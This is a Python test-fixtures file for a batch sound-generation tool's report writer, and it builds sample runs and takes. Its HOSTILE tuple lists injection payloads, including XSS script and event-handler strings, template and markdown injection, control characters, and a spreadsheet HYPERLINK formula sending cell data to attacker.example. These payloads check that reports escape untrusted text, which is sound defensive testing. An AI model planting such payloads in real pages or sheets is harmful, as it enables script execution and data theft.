"""Runs to report on: every way a take can end, and words that would harm a page that trusts them."""

from __future__ import annotations

import hashlib
import json
from collections.abc import Callable
from decimal import Decimal
from pathlib import Path
from typing import Any

import numpy as np
import pytest
import soundfile

from kling_batch.identity import external_task_id
from kling_batch.model import FileRecord, Job, Origin, RunResult, Source, Status, Take, TakeError, TakeResult
from kling_batch.report import write_reports

MakeTake = Callable[..., TakeResult]
MakeRun = Callable[..., RunResult]

HOSTILE = (
    "<script>window.pwned = 1</script>",
    "</script><script>window.pwned = 2</script>",
    '"><img src=x onerror="window.pwned = 3">',
    "' autofocus onfocus='window.pwned = 4",
    "</style></title><svg onload=window.pwned=5>",
    "javascript:window.pwned=6",
    "{{ 7 * 7 }} {% include 'x' %}",
    "[click](javascript:window.pwned=7) | `code` | @everyone #1\n# heading",
    '=HYPERLINK("http://attacker.example/?"&A1, "x")',
    "right \u202eto left\x00\x1b[31m",
)


@pytest.fixture
def hostile() -> tuple[str, ...]:
    """Words that run, draw or link something wherever they are trusted."""
    return HOSTILE


@pytest.fixture
def make_take() -> MakeTake:
    """Make the result of a take: one that succeeded, unless fields say otherwise."""

    def make(
        job_id: str = "door-creak", number: int = 1, *, job: dict[str, Any] | None = None, **fields: Any
    ) -> TakeResult:
        facts: dict[str, Any] = {
            "request": {"prompt": "Old oak door creaks open slowly", "duration": 5.0},
            "tags": ("foley",),
            "meta": {"scene": "entrance"},
            "source": Source(path="tavern.yaml", line=7, column=5),
        }
        take_job = Job(project="tavern", id=job_id, **(facts | (job or {})))
        take = Take(job=take_job, number=number, edition=1, stem=f"{job_id}-{number:02}")
        given: dict[str, Any] = {
            "status": Status.SUCCEEDED,
            "origin": Origin.GENERATED,
            "external_id": external_task_id(take),
            "task_id": "838475928374659072",
            "attempts": 1,
            "units": Decimal("0.25"),
            "files": (_file(take.path("wav")),),
            "submitted_at": 1_769_847_302.12,
            "finished_at": 1_769_847_314.62,
        }
        return TakeResult(take=take, **(given | fields))

    return make


def _file(path: str) -> FileRecord:
    digest = hashlib.sha256(path.encode()).hexdigest()
    return FileRecord(path=path, format="wav", sha256=digest, bytes=123_456, duration_s=5.0416)


@pytest.fixture
def make_run() -> MakeRun:
    """Make the result of a run of some takes."""

    def make(*takes: TakeResult, **fields: Any) -> RunResult:
        given: dict[str, Any] = {
            "project": "tavern",
            "manifest": "tavern.yaml",
            "started_at": 1_769_847_300.0,
            "finished_at": 1_769_847_331.2,
            "exit_status": 0,
            "api_requests": 19,
        }
        return RunResult(takes=takes, **(given | fields))

    return make


@pytest.fixture
def failed(make_take: MakeTake) -> TakeResult:
    """A take that the service refused."""
    error = TakeError(code=1301, message="The prompt was refused by content policy", hint="Change the prompt.")
    return make_take(
        "gunfight", status=Status.FAILED, origin=None, task_id=None, files=(), units=Decimal(0), error=error
    )


@pytest.fixture
def unknown(make_take: MakeTake) -> TakeResult:
    """A take that is perhaps paid for."""
    return make_take("storm", status=Status.UNKNOWN, origin=None, task_id=None, files=(), finished_at=None)


@pytest.fixture
def pending(make_take: MakeTake) -> TakeResult:
    """A take that the run did not come to."""
    return make_take(
        "bell",
        status=Status.PENDING,
        origin=None,
        task_id=None,
        files=(),
        attempts=0,
        units=Decimal(0),
        submitted_at=None,
        finished_at=None,
    )


@pytest.fixture
def run(
    make_run: MakeRun, make_take: MakeTake, failed: TakeResult, unknown: TakeResult, pending: TakeResult
) -> RunResult:
    """Two takes that succeeded and one of each way that a take can have no sound; it stopped early and says why."""
    takes = (pending, make_take(number=1), make_take(number=2), unknown, failed)
    return make_run(*takes, exit_status=6, note="The deadline of 30 s passed.")


@pytest.fixture
def hostile_run(make_run: MakeRun, make_take: MakeTake) -> RunResult:
    """A run in which every free text is hostile: prompts, tags, meta, errors, the note, the manifest's name."""
    takes = []
    for index, words in enumerate(HOSTILE):
        job = {"request": {"prompt": words, "duration": 5.0}, "tags": (words,), "meta": {words: words}}
        takes.append(make_take(f"calm-{index}", job=job))
        error = TakeError(code=None, message=words, hint=words)
        takes.append(make_take(f"lost-{index}", job=job, status=Status.FAILED, origin=None, files=(), error=error))
    return make_run(*takes, project=HOSTILE[4], manifest=HOSTILE[2], note=HOSTILE[0], exit_status=1)


@pytest.fixture
def write_json(tmp_path: Path) -> Callable[[RunResult], Any]:
    """Write the reports of a run and read `report.json` back."""

    def write(result: RunResult) -> Any:
        write_reports(result, tmp_path)
        return json.loads((tmp_path / "report.json").read_text(encoding="utf-8"))

    return write


@pytest.fixture
def make_sounds() -> Callable[[RunResult, Path], None]:
    """Put a real sound, half a second of a tone, where each file of a run should be."""

    def make(result: RunResult, out: Path) -> None:
        tone = np.sin(np.arange(22_050) * 0.06) * 0.2
        for file in (file for take in result.takes for file in take.files):
            path = out / file.path
            path.parent.mkdir(parents=True, exist_ok=True)
            soundfile.write(path, tone, 44_100)

    return make
